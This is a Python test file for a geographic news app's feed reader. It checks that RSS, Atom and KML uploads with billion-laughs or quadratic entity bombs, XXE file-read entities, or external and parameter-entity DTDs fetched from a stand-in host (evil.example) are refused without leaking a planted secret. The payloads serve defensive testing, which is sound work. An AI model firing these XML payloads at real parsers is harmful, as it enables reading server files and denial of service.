"""Item 17: billion laughs or XXE in RSS/Atom/KML -> refused (defusedxml); no file contents leak."""
from __future__ import annotations

import pytest

from geo.errors import InputError
from geo.ingest import readers as ingest
from security.payloads import page_text, run_app, upload

LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
          b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
          b'<rss version="2.0"><channel><item><title>x</title><description>&d;</description></item></channel></rss>')
QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x "' + b"A" * 50_000 + b'">]>'
             b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>t</title><summary>'
             + b"&x;" * 2000 + b"</summary></entry></feed>")


def _xxe(secret_path: str, root: str = "rss") -> bytes:
    body = {
        "rss": '<rss version="2.0"><channel><item><title>&xxe;</title><description>&xxe;</description></item></channel></rss>',
        "feed": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&xxe;</title><summary>&xxe;</summary></entry></feed>',
        "kml": '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&xxe;</name></Placemark></kml>',
    }[root]
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret_path}">]>{body}'.encode()


@pytest.mark.parametrize("name", ["feed.xml", "feed.rss", "feed.atom", "feed", "feed.txt"])
@pytest.mark.parametrize("data", [LAUGHS, QUADRATIC], ids=["laughs", "quadratic"])
def test_entity_expansion_is_refused(name, data):
    if name == "feed.txt":  # a .txt is read as text: the bytes are shown, never expanded
        (article,) = ingest.read_bytes(name, data).articles
        assert "&d;" in article.text or "&x;" in article.text
        assert "lollollol" not in article.text
        return
    with pytest.raises(InputError, match="entities|billion laughs"):
        ingest.read_bytes(name, data)


@pytest.mark.parametrize("root, name", [("rss", "feed.rss"), ("feed", "feed.atom"), ("kml", "layer.kml"),
                                        ("rss", "feed.xml")])
def test_xxe_never_reads_the_file(tmp_path, root, name):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7f3a")
    with pytest.raises(InputError) as info:
        ingest.read_bytes(name, _xxe(str(secret), root))
    assert "TOP-SECRET" not in str(info.value)


def test_external_dtd_is_never_fetched_and_parameter_entities_are_refused(tmp_path, monkeypatch):
    import socket
    import urllib.request

    def no_network(*a, **k):
        raise AssertionError("reading a feed must not open a connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(urllib.request, "urlopen", no_network)
    dtd = tmp_path / "x.dtd"
    dtd.write_text('<!ENTITY secret "TOP-SECRET-7f3a">')
    item = '<rss version="2.0"><channel><item><title>t{ref}</title><description>Floods in Quetta{ref}</description></item></channel></rss>'
    # an external DTD named but not used: read, nothing fetched, nothing from it in the text
    plain = f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">{item.format(ref="")}'.encode()
    (article,) = ingest.read_bytes("feed.xml", plain).articles
    assert article.text == "Floods in Quetta"
    for data in (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file://{dtd}">{item.format(ref=" &secret;")}'.encode(),
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "file://{dtd}"> %p;]>{item.format(ref=" &secret;")}'.encode(),
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>{item.format(ref="")}'.encode(),
    ):
        with pytest.raises(InputError, match="refused") as info:
            ingest.read_bytes("feed.xml", data)
        assert "TOP-SECRET" not in str(info.value)


def test_the_app_refuses_xml_attacks_and_leaks_nothing(app_data_dir, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7f3a")
    at = upload(run_app(), [("laughs.xml", LAUGHS, "application/xml"),
                            ("xxe.rss", _xxe(str(secret)), "application/rss+xml")])
    shown = page_text(at)
    assert "laughs.xml" in shown and "xxe.rss" in shown and "refused" in shown
    assert "TOP-SECRET" not in shown
    assert not any("TOP-SECRET" in a.text for a in at.session_state["articles"])
